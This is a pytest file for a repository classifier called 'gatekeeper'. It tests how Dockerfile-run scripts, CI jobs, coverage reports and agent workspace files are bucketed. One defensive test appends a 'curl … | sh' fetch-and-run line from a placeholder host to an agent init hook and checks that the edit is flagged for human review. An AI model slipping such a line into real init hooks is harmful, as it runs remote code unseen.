"""Classes the eighty-fourth label set's blind run showed (bench/classify_accuracy/eightyfourth.tsv), with real
repositories: a Dockerfile kept in a subfolder but built from an ancestor folder (`containers/Dockerfile.client`
with `COPY ./containers/build.sh /build.sh` then `RUN sh /build.sh`: EESSI's filesystem-layer builds it with the
repository's root as the context) runs a script its own folder's context does not hold, and that script is part of
the image definition (`iac.context.dockerfile-script`), as one the Dockerfile copies from its own folder is.

And a CI job whose id is the name of a deploy action's input (`jobs: manifests:`, a GitLab job `chart:`) is a job, not
the input: the job's body (its `run:` blocks) was read as a list of deployed paths (StanfordSpezi's validate workflow:
every word of its shell lines, 260 targets with the folders they may be in), past the walk's bound, and every
Makefile and script of the repository was `ci`."""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed
from conftest import POLICY_DIR
from gitdiffs import commit_patch
from incli import run_cli
from tables import each_case

from gatekeeper.classify.context import classify_in_context
from gatekeeper.classify.deployruns import targets
from gatekeeper.classify.dockerrefs import MAX_CONTEXTS, contexts
from gatekeeper.classify.patchcontext import PatchContext
from gatekeeper.classify.tfrefs import names_in
from gatekeeper.diff import parse_patch
from tests.cpucost import assert_linear, repeated
from tests.gitrepo import GitRepo, two_commits
from tests.incli import tree_classify
from tests.test_classify_context import RULES, added_files, assert_path_rule

RUN_RULE = "iac.context.dockerfile-script"

# (the Dockerfile's folder, the ancestor the build runs from): the COPY source is spelled from the ancestor
LAYOUTS = [("containers", ""), ("docker", ""), ("build/docker", ""), ("build/docker", "build"),
           ("services/images/app", ""), ("services/images/app", "services/images")]
NAMES = ["Dockerfile", "Dockerfile.client-rocky8", "app.Dockerfile"]
# (how the COPY spells the source, given its path from the context; how the RUN starts the copied script)
FORMS = [
    ("./{rel}", "RUN sh /build-or-download.sh ${{version}}"),
    ("{rel}", "RUN bash /opt/build-or-download.sh"),
    ("/{rel}", "RUN chmod +x /build-or-download.sh && /build-or-download.sh"),
    ("{rel}", "RUN set -eux; /build-or-download.sh"),
]


def _dockerfile(source: str, run: str) -> str:
    destination = "/opt/" if "/opt/" in run else "/build-or-download.sh"
    return (f"FROM rockylinux:8\nARG version\nCOPY {source} {destination}\n{run.format()}\n"
            "COPY entry.sh /entry.sh\nENTRYPOINT [\"/entry.sh\"]\n")


def _cases() -> list[tuple[str, str, str, str, str]]:
    cases = []
    for number, (folder, context) in enumerate(LAYOUTS):
        for name in NAMES:
            spelling, run = FORMS[(number + len(name)) % len(FORMS)]
            script = f"{folder}/build-or-download.sh"
            rel = script[len(context) + 1:] if context else script
            cases.append((folder, name, spelling.format(rel=rel), run, script))
    return cases


@each_case("folder, name, source, run, script", _cases())
def test_a_script_a_subfolder_dockerfile_copies_from_an_ancestor_context_and_runs_is_iac(
        git_repo: GitRepo, folder: str, name: str, source: str, run: str, script: str) -> None:
    files = added_files(git_repo, {
        f"{folder}/{name}": _dockerfile(source, run),
        script: "#!/bin/sh\nyum install -y wget\nwget -q https://example.invalid/cvmfs-$1.rpm\n",
        f"{folder}/entry.sh": "#!/bin/sh\nexec \"$@\"\n",
        f"{folder}/README.md": "# images\n",
    })
    got = files[script]
    assert (got.bucket, got.rule) == ("iac", RUN_RULE), (got.bucket, got.rule, got.evidence)
    assert files[f"{folder}/README.md"].bucket == "src"


def test_the_patch_alone_reads_the_same_context(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# proj\n")
    git_repo.commit("base")
    git_repo.write("containers/Dockerfile.EESSI-client-rocky8",
                   _dockerfile("./containers/build-or-download-cvmfs-rpms.sh", "RUN sh /build-or-download.sh x"))
    git_repo.write("containers/build-or-download-cvmfs-rpms.sh", "#!/bin/sh\nyum install -y wget\n")
    git_repo.commit("head")
    patch = tmp_path / "change.diff"
    patch.write_bytes(commit_patch(git_repo, "main~1", "main", "--binary", "-M"))
    changes = list(parse_patch(patch))
    context = PatchContext(patch, changes, RULES.context)
    try:
        files = {f.change.path: f for f in classify_in_context(changes, RULES, context)}
    finally:
        context.close()
    got = files["containers/build-or-download-cvmfs-rpms.sh"]
    assert (got.bucket, got.rule) == ("iac", RUN_RULE)


# Look-alikes that keep their bucket: the ancestor context is taken only when a COPY source starts with the
# Dockerfile's own folder as seen from that ancestor; a script only copied for the entrypoint runs when a container
# starts, not while the image builds; a root file named like the copied one is not what a folder-context COPY takes.
LOOKALIKES = [
    # (files, the path that must stay src)
    ({"docker/Dockerfile": "FROM alpine\nCOPY lib/setup.sh /setup.sh\nRUN /setup.sh\n",
      "docker/lib/setup.sh": "#!/bin/sh\napk add curl\n", "lib/setup.sh": "#!/bin/sh\necho tool\n"},
     "lib/setup.sh"),
    ({"containers/Dockerfile": "FROM alpine\nCOPY ./containers/entry.sh /entry.sh\nENTRYPOINT [\"/entry.sh\"]\n",
      "containers/entry.sh": "#!/bin/sh\nexec \"$@\"\n"}, "containers/entry.sh"),
    ({"containers/Dockerfile": "FROM alpine\nCOPY ./containers/tool.sh /usr/local/bin/tool.sh\nRUN echo built\n",
      "containers/tool.sh": "#!/bin/sh\necho hi\n"}, "containers/tool.sh"),
    ({"app/docker/Dockerfile": "FROM alpine\nCOPY --from=builder /app/docker/run.sh /run.sh\nRUN /run.sh\n",
      "app/docker/run.sh": "#!/bin/sh\necho hi\n"}, "app/docker/run.sh"),
    ({"images/web/Dockerfile": "FROM alpine\nCOPY ../web/run.sh /run.sh\nRUN /run.sh\n",
      "web/run.sh": "#!/bin/sh\necho hi\n"}, "web/run.sh"),
]


@each_case("files, path", LOOKALIKES)
def test_look_alikes_keep_their_bucket(git_repo: GitRepo, files: dict[str, str], path: str) -> None:
    got = added_files(git_repo, files)[path]
    assert got.bucket == "src", (path, got.bucket, got.rule, got.evidence)


def test_contexts_are_the_folder_and_the_ancestors_a_copy_names_it_from() -> None:
    text = "FROM a\nCOPY ./build/docker/x.sh /x.sh\nCOPY docker/y.sh /y.sh\nCOPY z.sh /z.sh\nRUN /x.sh\n"
    assert contexts("build/docker", text) == ["build/docker", "build", ""]
    assert contexts("", text) == [""]
    assert contexts("build/docker", "FROM a\nCOPY --from=b build/docker/x.sh /x\n") == ["build/docker"]
    assert contexts("a/b", "FROM a\nCOPY ${D}/a/b/x.sh /x\nADD https://h/a/b/x.sh /x\n") == ["a/b"]


# The ids a job may share with a deploy action's input (deployruns._INPUT_KEY)
JOB_IDS = ["manifests", "chart", "chart-path", "helm-chart", "values-files", "value-files", "kustomization-path",
           "task-definition", "override-files", "terraform-dir"]
JOB_BODY = """    name: Validate {job}
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Install the validator
        run: |
          curl -sSL https://example.invalid/kubeconform.tar.gz \\
            | tar xz -C /usr/local/bin
      - name: Build and validate every overlay
        run: |
          for overlay in clusters/dev clusters/prod apps/dev apps/prod; do
            echo "=== $overlay ==="
            kubectl kustomize "$overlay" | kubeconform -strict -summary -output text -skip CustomResourceDefinition
          done
      - name: Report
        run: |
          echo "validated the dev and prod overlays of the clusters, the apps and the bootstrap folders"
          echo "with the strict schema check, the summary output and the CRD catalogue of the community"
          echo "every overlay must build, every object must match its schema, and no kind may be unknown"
"""


@each_case("job", JOB_IDS)
def test_a_job_named_like_a_deploy_input_is_no_list_of_paths(job: str) -> None:
    github = f"on: push\njobs:\n  {job}:\n" + JOB_BODY.format(job=job)
    found = targets(github)
    assert not {"curl", "tar", "|", "usr/local/bin", "echo", "===", "text", "done"} & set(found), found
    gitlab = f"{job}:\n  stage: test\n  script:\n    - helm lint charts/web\n    - echo checked | tee log/out.txt\n"
    assert "log/out.txt" not in targets(gitlab) and "echo" not in targets(gitlab), targets(gitlab)


@each_case("text, expected", [
    # a deploy action's input: a block scalar of paths, a list of paths, an inline value
    ("      - uses: azure/k8s-deploy@v5\n        with:\n          manifests: |\n            k8s/app.yaml\n"
     "            k8s/svc.yaml\n", ["k8s/app.yaml", "k8s/svc.yaml"]),
    ("      - uses: azure/k8s-deploy@v5\n        with:\n          manifests:\n            - k8s/app.yaml\n"
     "            - k8s/svc.yaml\n", ["k8s/app.yaml", "k8s/svc.yaml"]),
    ("        with:\n          chart: ./charts/web\n          value-files: ci/a.yaml,ci/b.yaml\n",
     ["charts/web", "ci/a.yaml", "ci/b.yaml"]),
    # an Azure task's inputs
    ("  - task: KubernetesManifest@1\n    inputs:\n      manifests: |\n        deploy/web.yaml\n",
     ["deploy/web.yaml"]),
])
def test_a_deploy_action_input_is_still_read(text: str, expected: list[str]) -> None:
    assert targets(text) == expected


def test_a_makefile_no_ci_runs_stays_src_beside_a_job_named_manifests(tmp_path: Path) -> None:
    workflow = "on: push\njobs:\n  manifests:\n" + JOB_BODY.format(job="manifests") + (
        "  tofu:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: terraform\n"
        "    steps:\n      - uses: actions/checkout@v4\n      - run: tofu init -backend=false\n"
        "      - run: tofu validate\n      - run: bash ../tools/smoke.sh\n")
    base = {".github/workflows/validate.yaml": workflow, "terraform/main.tf": "terraform {}\n",
            "Makefile": "plan:\n\tcd terraform && tofu plan\n", "tools/smoke.sh": "#!/bin/sh\necho ok\n",
            "tools/bootstrap.sh": "#!/bin/sh\nflux install\n", "README.md": "# platform\n"}
    head = {"Makefile": "plan:\n\tcd terraform && tofu plan -out x\n", "tools/bootstrap.sh": "#!/bin/sh\nflux check\n",
            "tools/smoke.sh": "#!/bin/sh\necho ok again\n"}
    repo, first, last = two_commits(tmp_path / "r", base, head)
    found = tree_classify(repo.root, first, last)
    assert found["Makefile"]["bucket"] == "src", found["Makefile"]
    assert found["tools/bootstrap.sh"]["bucket"] == "src", found["tools/bootstrap.sh"]
    assert (found["tools/smoke.sh"]["bucket"], found["tools/smoke.sh"]["rule"]) == ("ci", "ci.context.ci-run")


# A committed coverage report (the eighty-fourth set: a CDK app's `docs/clover.xml` and `docs/lcov-report/`, which a
# test run wrote): generated tool output, `other`, as coverage.py's `.coverage` data file is (the otherdata1 round).
REPORT_FILES = ["lcov-report/index.html", "lcov-report/base.css", "lcov-report/prettify.css", "lcov-report/prettify.js",
                "lcov-report/sorter.js", "lcov-report/block-navigation.js", "lcov-report/lib/stack.ts.html",
                "clover.xml", "lcov.info", "coverage-final.json", "coverage-summary.json"]
REPORT_FOLDERS = ["", "docs/", "coverage/", "reports/coverage/", "packages/api/coverage/"]


@each_case("path", [folder + name for folder in REPORT_FOLDERS for name in REPORT_FILES])
def test_a_committed_coverage_report_is_other(path: str) -> None:
    assert_path_rule(path, "other", "other.tool-state-and-settings")


@each_case(("path", "bucket"), [
    ("src/lcov.ts", "src"), ("lib/clover/xml.py", "src"), ("coverage/sqlitedb.py", "src"),  # code named so
    ("docs/coverage.md", "src"), ("lcov-report.md", "src"), ("clover.xml.dist", "src"),
    ("node_modules/mute-stream/coverage/lcov-report/base.css", "deps"),  # a vendored package's: vendored code
    ("vendor/acme/lib/clover.xml", "deps"),
    (".github/workflows/coverage.yml", "ci"),
])
def test_coverage_look_alikes_keep_their_bucket(path: str, bucket: str) -> None:
    assert_path_rule(path, bucket, None)


def test_the_contexts_are_bounded_on_a_hostile_dockerfile() -> None:
    """A Dockerfile 40 folders deep whose COPY sources name every ancestor: at most MAX_CONTEXTS readings besides its
    own folder's, and the reading stays linear in the text (each COPY word's folders walked once)."""
    folder = "/".join(f"d{n}" for n in range(40))
    copies = "".join(f"COPY {'/'.join(folder.split('/')[n:])}/x.sh /x{n}.sh\n" for n in range(40))
    found = contexts(folder, "FROM a\n" + copies + "RUN /x1.sh\n")
    assert found[0] == folder and len(found) == 1 + MAX_CONTEXTS and len(set(found)) == len(found)
    unit = "COPY " + "/".join(folder.split("/")[5:]) + "/x.sh " + "/".join(["w"] * 40) + " /x/\n"
    assert_linear(lambda text: names_in(f"{folder}/Dockerfile", text), repeated(unit, "FROM a\n", "RUN /x/x.sh\n"),
                  budget=0.5)


# Coder's mux (an agent multiplexer) reads the repository's `.mux/` (formerly `.cmux/`): `init`, a script every new
# workspace runs at creation (the agent's sandbox start), and `mcp.jsonc`, the MCP servers its agents get (the
# eighty-fourth set: alecsg77/elysium's `.mux/mcp.jsonc` was src, with no tag).
MUX_FILES = {".mux/mcp.jsonc": '{"servers": {"cluster": {"command": "npx", "args": ["-y", "kube-mcp"]}}}\n',
             ".mux/init": "#!/usr/bin/env bash\nset -euo pipefail\nbun install\n",
             ".cmux/init": "#!/usr/bin/env bash\nbun install\n"}


@each_case("path", list(MUX_FILES))
def test_mux_settings_and_init_hook_are_agent_files(path: str) -> None:
    match = RULES.match(path)
    assert (match.bucket, match.rule) == ("other", "other.agent-instructions"), match
    assert "guardrail" in match.tags, match


@each_case(("path", "bucket"), [("src/mux/init.go", "src"), ("pkg/mux/mcp.jsonc", "src"), ("tools/.mux/init", "src")])
def test_mux_look_alikes_keep_their_bucket(path: str, bucket: str) -> None:
    match = RULES.match(path)
    assert match.bucket == bucket and "guardrail" not in match.tags, match


def test_an_agents_edit_of_the_mux_init_hook_needs_a_human(tmp_path: Path) -> None:
    """`gate --enable guardrails`, from the patch and with --tree: the init hook's edit is a guardrails finding."""
    case = committed(tmp_path, {".mux/init": MUX_FILES[".mux/init"]},
                     {".mux/init": MUX_FILES[".mux/init"] + "curl -s https://example.invalid/x | sh\n"})
    for tree in (False, True):
        where = ["--tree", f"{case.base}..{case.head}", "--repo", str(case.repo.root)] if tree else []
        done = run_cli(["gate", str(case.packet), "--patch", str(case.patch), "--policy", str(POLICY_DIR),
                        "--format", "json", "--enable", "guardrails", *where], text=True)
        decision = json.loads(str(done.stdout))
        named = [p for reason in decision["reasons"] if reason["rule"] == "guardrails.edit"
                 for p in reason.get("paths") or ()]
        assert (done.returncode, named) == (3, [".mux/init"]), (tree, decision["reasons"])
